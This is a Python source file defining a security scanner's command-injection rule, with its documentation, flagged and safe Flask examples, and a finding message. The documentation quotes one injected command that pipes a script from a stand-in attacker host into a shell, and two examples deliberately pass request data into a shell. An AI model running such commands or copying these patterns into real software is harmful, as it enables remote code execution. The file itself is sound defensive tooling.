"""Client data becomes part of a command that a shell reads, or chooses the program that is started.

The command is followed to `os.system`, `subprocess`, `asyncio`, SSH and container libraries. A list of words without
a shell is no finding, unless client data is the program itself, a text that the program runs (`["sh", "-c", text]`,
`["ssh", host, text]`), or a word that a program known to run commands through its options (`git clone`, `tar`, `ssh`,
`rsync`) would take for an option. What `shlex.quote` made is none either, where no other quotes are around it.

## Why is this bad?
A shell reads `;`, `|`, `$(…)` and line breaks as its own. `name=x; curl evil.example | sh` runs a second command with the
rights of your app, and everything the app can read is theirs.

## How to fix
Pass a list of words and no `shell=True`: no shell reads them. Write `--` before words that may begin with a dash. Where
a shell is needed, put `shlex.quote` around each value, with no other quotes around that.

```python
subprocess.run(["ping", "-c", "1", "--", host])
subprocess.run(f"grep -c {shlex.quote(word)} log.txt | sort", shell=True)
```

## References
- https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html
- https://docs.python.org/3/library/subprocess.html#security-considerations
- https://docs.python.org/3/library/shlex.html#shlex.quote
"""

from fumehood.findings.finding import Confidence
from fumehood.framework.sinks import SinkReached
from fumehood.rules.flows import Saying, follow
from fumehood.rules.rule import Example, Rule

RULE = Rule(
    id="command-injection",
    title="Client data in a command",
    severity=9.8,
    confidence=Confidence.HIGH,
    cwe=(78,),
    owasp=("a03-2021", "a05-2025"),
    since="0.1.0",
    doc=__doc__,
    examples=(
        Example(
            "a text for a shell",
            """
            import subprocess
            from flask import Flask, request

            app = Flask(__name__)

            @app.post("/ping")
            def ping():
                host = request.form["host"]
                done = subprocess.run(f"ping -c 1 {host}", shell=True)  # finding
                return {"alive": done.returncode == 0}
            """,
        ),
        Example(
            "a list with a shell in it",
            """
            import subprocess
            from flask import Flask, request

            app = Flask(__name__)

            @app.post("/ping")
            def ping():
                command = ["sh", "-c", "ping -c 1 " + request.form["host"]]
                return {"alive": subprocess.call(command) == 0}  # finding
            """,
        ),
        Example(
            "a list of words",
            """
            import subprocess
            from flask import Flask, request

            app = Flask(__name__)

            @app.post("/ping")
            def ping():
                done = subprocess.run(["ping", "-c", "1", "--", request.form["host"]])
                return {"alive": done.returncode == 0}
            """,
        ),
        Example(
            "quoted for the shell",
            """
            import os
            import shlex
            from flask import Flask, request

            app = Flask(__name__)

            @app.post("/ping")
            def ping():
                return {"alive": os.system(f"ping -c 1 {shlex.quote(request.form['host'])}") == 0}
            """,
        ),
    ),
)


@follow(RULE, "command")
def in_command(reached: SinkReached) -> Saying:
    return Saying(
        place=f"the command of `{reached.called}`",
        harm="Whoever sends the request can run commands of their own with the rights of your app.",
        advice="Pass the program and its arguments as a list without a shell, or put `shlex.quote` around each value.",
    )
